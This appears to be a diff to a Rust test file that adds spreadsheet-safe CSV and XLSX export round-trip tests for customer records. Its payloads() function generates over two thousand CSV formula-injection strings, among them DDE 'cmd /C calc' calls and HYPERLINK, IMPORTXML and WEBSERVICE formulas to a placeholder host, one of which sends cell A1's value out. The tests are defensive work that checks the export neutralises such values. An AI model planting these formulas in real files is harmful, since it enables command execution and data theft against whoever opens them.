@@ -2,7 +2,7 @@
 
 use crate::exchange::block::Block;
 use crate::exchange::columns;
-use crate::exchange::csv_out::CsvOut;
+use crate::exchange::csv_out::{CsvOut, Readers};
 use crate::exchange::decode::{Turn, open_bytes};
 use crate::exchange::draft::{RowDraft, draft_block};
 use crate::exchange::headers::is_known;
@@ -10,6 +10,7 @@ use crate::exchange::json_out::JsonOut;
 use crate::exchange::mapping::{self, Mapping, Origin};
 use crate::exchange::table::Table;
 use crate::exchange::update::{Rule, edits};
+use crate::exchange::xlsx_out::XlsxOut;
 use crate::model::customer;
 use crate::model::entity::Entity;
 use crate::model::field::Class;
@@ -142,7 +143,11 @@ impl Random {
 }
 
 fn export(records: &[Record]) -> Vec<u8> {
-    let mut csv = CsvOut::new(Vec::new(), columns::fields(&Class::ALL)).unwrap();
+    export_for(Readers::Programs, records)
+}
+
+fn export_for(readers: Readers, records: &[Record]) -> Vec<u8> {
+    let mut csv = CsvOut::new(Vec::new(), columns::fields(&Class::ALL), readers).unwrap();
     for record in records {
         csv.write(record).unwrap();
     }
@@ -150,9 +155,11 @@ fn export(records: &[Record]) -> Vec<u8> {
 }
 
 fn import(bytes: &[u8]) -> (Mapping, Vec<RowDraft>) {
-    let mut table =
-        Table::from_source(open_bytes("export.csv", bytes.to_vec()).unwrap(), LayoutWish::default(), &is_known)
-            .unwrap();
+    let source = open_bytes("export.csv", bytes.to_vec()).unwrap();
+    drafts_of(Table::from_source(source, LayoutWish::default(), &is_known).unwrap())
+}
+
+fn drafts_of(mut table: Table) -> (Mapping, Vec<RowDraft>) {
     let mapping = mapping::map(&table, &[], DateOrder::MonthFirst, &ImportWishes::default()).unwrap();
     let mut drafts = Vec::new();
     let mut block = Block::default();
@@ -168,16 +175,106 @@ fn imp_07_an_export_read_back_says_nothing_new() {
     for seed in 1..=150_u64 {
         let mut random = Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
         let records: Vec<Record> = (0..20).map(|count| random.record(count)).collect();
-        let (mapping, drafts) = import(&export(&records));
-        assert_eq!((mapping.origin, mapping.unmapped()), (Origin::OurOwn, vec![]));
-        assert_eq!(drafts.len(), records.len(), "seed {seed}");
-        let fields = mapping.fields();
-        for (record, draft) in records.iter().zip(&drafts) {
-            assert_eq!((draft.id, draft.number), (Some(record.id), Some(customer::number(record))));
-            let edits = edits(record, draft, &fields, Rule::Mirror);
-            assert_eq!(edits, [], "seed {seed}, {record:?}\n{draft:?}");
+        for readers in [Readers::Programs, Readers::Spreadsheets] {
+            assert_same(&records, &import(&export_for(readers, &records)), &format!("seed {seed}, {readers:?}"));
         }
     }
+}
+
+/// Writes the records as a workbook and reads it back; the file is gone behind it.
+fn by_workbook(records: &[Record]) -> (Mapping, Vec<RowDraft>) {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("export.xlsx");
+    let mut xlsx = XlsxOut::new(Vec::new(), columns::fields(&Class::ALL)).unwrap();
+    for record in records {
+        xlsx.write(record).unwrap();
+    }
+    std::fs::write(&path, xlsx.finish().unwrap()).unwrap();
+    drafts_of(Table::open(&path, LayoutWish::default(), &is_known).unwrap())
+}
+
+fn assert_same(records: &[Record], (mapping, drafts): &(Mapping, Vec<RowDraft>), case: &str) {
+    assert_eq!((mapping.origin, mapping.unmapped()), (Origin::OurOwn, vec![]), "{case}");
+    assert_eq!(drafts.len(), records.len(), "{case}");
+    let fields = mapping.fields();
+    for (record, draft) in records.iter().zip(drafts) {
+        assert_eq!((draft.id, draft.number), (Some(record.id), Some(customer::number(record))));
+        let edits = edits(record, draft, &fields, Rule::Mirror);
+        assert!(edits.is_empty(), "{case}, {:.2000}", format!("{} of {edits:?}, {record:?}\n{draft:?}", edits.len()));
+    }
+}
+
+#[test]
+fn imp_07_a_workbook_read_back_says_nothing_new() {
+    for seed in 1..=60_u64 {
+        let mut random = Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
+        let records: Vec<Record> = (0..20).map(|count| random.record(count)).collect();
+        assert_same(&records, &by_workbook(&records), &format!("seed {seed}"));
+    }
+}
+
+/// Beginnings, formulas and ends of what people send to be run, all with all.
+fn payloads() -> Vec<String> {
+    let before = ["", " ", "\t", "\r", "'", "\"", "''", "a;", "\n", "\u{A0}", "\u{200B}"];
+    let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "@="];
+    let bodies = [
+        "1+1",
+        "SUM(1;2)",
+        "cmd|' /C calc'!A0",
+        "HYPERLINK(\"http://a.example?x=\"&A1,\"click\")",
+        "IMPORTXML(\"http://a.example\",\"//a\")",
+        "DDE(\"cmd\";\"/C calc\";\"x\")",
+        "WEBSERVICE(\"http://a.example\")",
+        "2+5+cmd|' /C calc'!A0",
+        "A1",
+        "1;=2",
+    ];
+    let ends = ["", ",=2"];
+    let mut all = Vec::new();
+    for (before, sign) in before.iter().flat_map(|before| signs.iter().map(move |sign| (before, sign))) {
+        all.extend(bodies.iter().flat_map(|body| ends.iter().map(move |end| format!("{before}{sign}{body}{end}"))));
+    }
+    all
+}
+
+#[test]
+fn imp_07_two_thousand_formulas_come_back_as_they_were_and_none_can_run() {
+    let payloads = payloads();
+    assert!(payloads.len() >= 2_000, "{}", payloads.len());
+    let record = |(count, text): (usize, &String)| {
+        let mut record = Record::new(Entity::Customer, Id::from_parts(count as u64, [7; 10]));
+        record.set(Path::field(customer::NUMBER), Some(Value::Whole(1001 + count as i64)));
+        for (field, kind) in [(customer::FIRST_NAME, Kind::Name), (customer::NOTES, Kind::Note)] {
+            let value = kind.parse(text, DateOrder::MonthFirst);
+            record.set(Path::field(field), value.unwrap_or_else(|_| Some(Value::AsTyped(text.trim().to_owned()))));
+        }
+        record
+    };
+    let records: Vec<Record> = payloads.iter().enumerate().map(record).collect();
+    let file = export_for(Readers::Spreadsheets, &records);
+    assert_same(&records, &import(&file), "guarded");
+    assert_same(&records, &by_workbook(&records), "a workbook");
+    let mut cells = csv::Reader::from_reader(file.as_slice());
+    for row in cells.records() {
+        for cell in &row.unwrap() {
+            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
+        }
+    }
+}
+
+#[test]
+fn imp_07_a_text_longer_than_a_cell_comes_back_whole() {
+    let check = |note: &str| {
+        let records = [7, 8].map(|count| {
+            let mut record = Record::new(Entity::Customer, Id::from_parts(1, [count; 10]));
+            record.set(Path::field(customer::NUMBER), Some(Value::Whole(1001)));
+            record.set(Path::field(customer::NOTES), Some(Value::Text(note.to_owned())));
+            record
+        });
+        assert_same(&records, &by_workbook(&records), &note[..20]);
+    };
+    check("A long story of a tremolo.\n".repeat(3_700).trim_end());
+    check(&"_x000D_ is no line end 🦀.".repeat(3_900));
 }
 
 #[test]
